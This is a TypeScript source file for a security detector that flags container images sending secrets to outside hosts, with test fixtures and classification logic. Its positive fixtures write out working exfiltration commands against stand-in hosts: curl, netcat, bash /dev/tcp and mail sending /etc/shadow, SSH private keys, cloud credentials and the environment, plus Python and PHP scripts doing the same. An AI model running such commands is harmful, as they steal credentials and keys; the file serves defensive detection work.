import type { ExfiltrateEffect, FetchEffect, SecretKind } from '../trace/effect.ts';
import { secretAt, secretsIn } from '../trace/effects/secrets.ts';
import { render, textOf, type Value } from '../trace/value.ts';
import { type Destination, destinationOf, leaves } from './destinations.ts';
import type { Detector, FindingDraft, Scene } from './detector.ts';
import { effectsOf } from './effects-of.ts';
import { feeding, isScript } from './script-flow.ts';
import { secretWords } from './secret-words.ts';
import { findingOf, sightingOf } from './sighting.ts';
import { valueWords } from './wording.ts';

/** Secrets sent away. */
export const exfiltration: Detector = {
  id: 'exfiltration',
  version: 3,
  title: 'Sends secrets to somebody.',
  attack: ['T1041', 'T1552.001', 'T1567'],
  description: `
Uploading a file is ordinary. Uploading private keys, password tables, cloud or registry credentials, wallets, browser data or
the whole environment is not: *malicious* when an image does it while running, also when the secrets were packed into an
archive first, and whether it goes through curl, netcat, a socket or the mail. *Suspicious* when only a shell history or a file
of settings goes, or keys are copied to a machine that is chosen while running (\`scp\` between one's own machines). What stays
on the machine, in the cluster or goes to the cloud's own interface is nothing.
`,
  fires: [
    { name: 'password table', image: { cmd: ['sh', '-c', 'curl -s --data-binary @/etc/shadow http://203.0.113.9/c'] } },
    {
      name: 'cloud credentials',
      image: { cmd: ['sh', '-c', 'curl -F f=@/root/.aws/credentials https://collect.example/; exec app'] },
    },
    { name: 'the environment', image: { cmd: ['sh', '-c', 'curl -d "$(env)" https://collect.example/; exec app'] } },
    {
      name: 'packed first',
      image: {
        cmd: [
          'sh',
          '-c',
          'tar czf /tmp/.a ~/.ssh ~/.aws ~/.kube 2>/dev/null; curl -sT /tmp/.a https://files.example/up',
        ],
      },
    },
    {
      name: 'through a pipe',
      image: { cmd: ['sh', '-c', 'cat ~/.docker/config.json | base64 -w0 | curl -d @- https://c.example/'] },
    },
    { name: 'through netcat', image: { cmd: ['sh', '-c', 'tar cz /root/.ssh | nc 203.0.113.9 4444'] } },
    { name: 'through a socket of bash', image: { cmd: ['bash', '-c', 'cat /etc/shadow > /dev/tcp/203.0.113.9/443'] } },
    {
      name: 'in the address',
      image: { cmd: ['sh', '-c', 'curl "https://c.example/?d=$(cat /root/.git-credentials | base64 -w0)"'] },
    },
    {
      name: 'with the file in the image',
      image: {
        cmd: ['sh', '-c', 'x=$(base64 -w0 /etc/shadow); curl -H "X-A: $x" http://203.0.113.9/'],
        files: { '/etc/shadow': 'root:*:19000:0:99999:7:::\n' },
      },
    },
    { name: 'by mail', image: { cmd: ['sh', '-c', 'mail -s x someone@box.example < /root/.ssh/id_rsa'] } },
    {
      name: 'in Python, through variables',
      image: {
        cmd: ['python3', '/s.py'],
        files: {
          '/s.py': [
            'import os, base64, requests',
            "path = os.path.expanduser('~/.ssh/id_rsa')",
            'with open(path, "rb") as f:',
            '    key = f.read()',
            'body = base64.b64encode(key)',
            "requests.post('https://c.example/', data=body)",
          ].join('\n'),
        },
      },
    },
    {
      name: 'in the address, in PHP',
      image: {
        cmd: ['php', '/a.php'],
        files: {
          '/a.php':
            "<?php\n$k = file_get_contents('/root/.ssh/id_rsa');\nfile_get_contents('http://203.0.113.9/?d=' . urlencode(base64_encode($k)));\n",
        },
      },
    },
    {
      name: 'the environment, in Python',
      image: {
        cmd: ['python3', '-c', "import os,requests\nrequests.post('https://c.example/', json=dict(os.environ))"],
      },
    },
    {
      name: 'the shell history',
      severity: 'suspicious',
      image: { cmd: ['sh', '-c', 'curl -F h=@/root/.bash_history https://c.example/'] },
    },
  ],
  silent: [
    {
      name: 'one variable, in Python',
      image: {
        cmd: ['python3', '/s.py'],
        files: {
          '/s.py': [
            'import os, requests',
            "token = os.environ['API_TOKEN']",
            'env = dict(os.environ)',
            "result = open('/tmp/result.json').read()",
            "requests.post('https://api.example/results', headers={'Authorization': token}, data=result)",
          ].join('\n'),
        },
      },
    },
    {
      name: 'the cluster’s interface, in Python',
      image: {
        cmd: ['python3', '/s.py'],
        files: {
          '/s.py': [
            'import os, requests',
            "token = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()",
            "base = 'https://' + os.environ['KUBERNETES_SERVICE_HOST']",
            'body = {"status": str(os.getpid())}',
            "requests.patch(base + '/api/v1/namespaces/a/configmaps/b', headers={'Authorization': 'Bearer ' + token}, json=body)",
          ].join('\n'),
        },
      },
    },
    {
      name: 'a token shown to its registry, in Node',
      image: {
        cmd: ['node', '/p.js'],
        files: {
          '/p.js': [
            "const fs = require('fs'), https = require('https');",
            "const rc = fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8');",
            "const token = rc.split('_authToken=')[1].trim();",
            'const body = JSON.stringify({ name: "x", version: process.env.VERSION });',
            "const r = https.request({ hostname: 'registry.npmjs.org', path: '/x', method: 'PUT', headers: { Authorization: 'Bearer ' + token } });",
            'r.write(body); r.end();',
          ].join('\n'),
        },
      },
    },
    { name: 'a report', image: { cmd: ['sh', '-c', 'curl -F file=@/tmp/report.html https://ci.example/upload'] } },
    { name: 'a message', image: { cmd: ['sh', '-c', `curl -d '{"text":"started"}' https://hooks.example/x`] } },
    {
      name: 'its public key',
      image: { cmd: ['sh', '-c', 'curl -F key=@/root/.ssh/id_rsa.pub https://git.example/keys'] },
    },
    {
      name: 'a backup of the data',
      image: {
        cmd: [
          'sh',
          '-c',
          'tar czf /backup/data.tgz /var/lib/app /etc/app; scp /backup/data.tgz backup@store.example:/srv/',
        ],
      },
    },
    {
      name: 'a token of the cluster, used in the cluster',
      image: {
        cmd: [
          'sh',
          '-c',
          'TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); curl -s -H "Authorization: Bearer $TOKEN" -d @patch.json https://kubernetes.default.svc/api/v1/namespaces/a/configmaps/b',
        ],
      },
    },
    {
      name: 'logging in to Vault with the token of the cluster',
      severity: 'note',
      image: {
        cmd: [
          'sh',
          '-c',
          'curl -s -d "{\\"role\\":\\"a\\",\\"jwt\\":\\"$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\\"}" $VAULT_ADDR/v1/auth/kubernetes/login',
        ],
      },
    },
    {
      name: 'credentials put in their place',
      image: {
        cmd: ['sh', '-c', 'mkdir -p ~/.aws; cp /secrets/aws ~/.aws/credentials; exec aws s3 sync /data s3://bucket/'],
      },
    },
  ],
  detect(scene) {
    const sent = effectsOf(scene, 'exfiltrate').flatMap((effect) => {
      if (effect.via === 'dns' || effect.via === 'icmp') return [];
      const direct = secretsOf(effect);
      return direct.size > 0
        ? judged(scene, effect, effect.to, direct)
        : judged(scene, effect, effect.to, fedBy(scene, effect), true);
    });
    // A script may put it into the address of a plain request.
    const asked = effectsOf(scene, 'fetch').flatMap((effect) =>
      effect.command === undefined && textOf(effect.url) === undefined
        ? judged(scene, effect, effect.url, fedBy(scene, effect), true)
        : [],
    );
    return [...sent, ...asked];
  },
};

function judged(
  scene: Scene,
  effect: ExfiltrateEffect | FetchEffect,
  address: Value,
  kinds: ReadonlySet<SecretKind>,
  indirect = false,
): readonly FindingDraft[] {
  const to = destinationOf(address);
  if (kinds.size === 0 || (!leaves(to) && to.kind !== 'cloud')) return [];
  if (to.kind === 'cloud' && [...kinds].every((kind) => kind === 'cloud' || kind === 'cluster')) return [];
  const mild = [...kinds].every((kind) => kind === 'history' || kind === 'dotenv' || kind === 'database');
  const sighting = sightingOf(scene, effect);
  const given = isGiven(address);
  const login = kinds.size === 1 && kinds.has('cluster') && (given || /\/(login|token|oauth)\b/.test(to.text));
  const chosen = mild || given || isOwnCopy(sighting.command?.name, to);
  return findingOf(scene, sighting, {
    threat: login ? 'minor' : chosen ? 'dual-use' : 'hostile',
    title: `Sends ${secretWords(kinds)} to ${valueWords(address, 100)}`,
    because: effect.kind === 'exfiltrate' ? wayWords(effect, to) : undefined,
    ...(indirect ? { confidence: 'medium' as const } : {}),
    effects: [effect.id],
  });
}

/**
 * What a script sends by the words of the statements that feed it. Tokens are left out: a script shows one to the service it
 * belongs to with every request, and words do not tell the two apart.
 */
function fedBy(scene: Scene, effect: ExfiltrateEffect | FetchEffect): ReadonlySet<SecretKind> {
  const stage = scene.story.stages[effect.stage];
  if (!stage || !isScript(stage)) return new Set();
  const text = feeding(stage, effect.line);
  const shown = /authorization|bearer|x-[a-z-]{0,20}token|sign/i.test(text);
  return new Set([...secretsIn(text)].filter((kind) => neverShown.has(kind) || (kind === 'cloud' && !shown)));
}

const neverShown: ReadonlySet<SecretKind> = new Set<SecretKind>([
  'password-table',
  'ssh-key',
  'environment',
  'wallet',
  'browser',
  'history',
  'memory',
  'messenger',
]);

/** The kinds of secrets that are in what is sent. */
export function secretsOf(effect: ExfiltrateEffect): ReadonlySet<SecretKind> {
  const own = secretAt(render(effect.what));
  const found = new Set(secretsIn(`${render(effect.what)}\n${effect.holds ? render(effect.holds) : ''}`));
  if (own) found.add(own);
  return found;
}

/** `scp` and `rsync` to a machine that is not fixed in the image: one's own machines are set up like that. */
function isOwnCopy(tool: string | undefined, to: Destination): boolean {
  return (
    (tool === 'scp' || tool === 'rsync' || tool === 'sftp') &&
    to.kind !== 'bare' &&
    to.kind !== 'onion' &&
    to.kind !== 'throwaway'
  );
}

/** The address is a variable that whoever runs the image sets. */
function isGiven(address: Value): boolean {
  const [head] = address.filter((part) => part !== 'https://' && part !== 'http://');
  return (
    head !== undefined &&
    typeof head !== 'string' &&
    /^\$\{?[A-Z][A-Z0-9_]{1,60}\}?$|^os\.(environ|getenv)|^process\.env\.|^getenv|^ENV\b/.test(head.hole)
  );
}

function wayWords(effect: ExfiltrateEffect, to: Destination): string | undefined {
  if (effect.holds) return 'It packs them into a file first.';
  if (to.kind === 'channel') return `Anybody can open such an address at ${to.service}.`;
  return to.kind === 'bare' ? 'They go to a bare address that nobody vouches for.' : undefined;
}
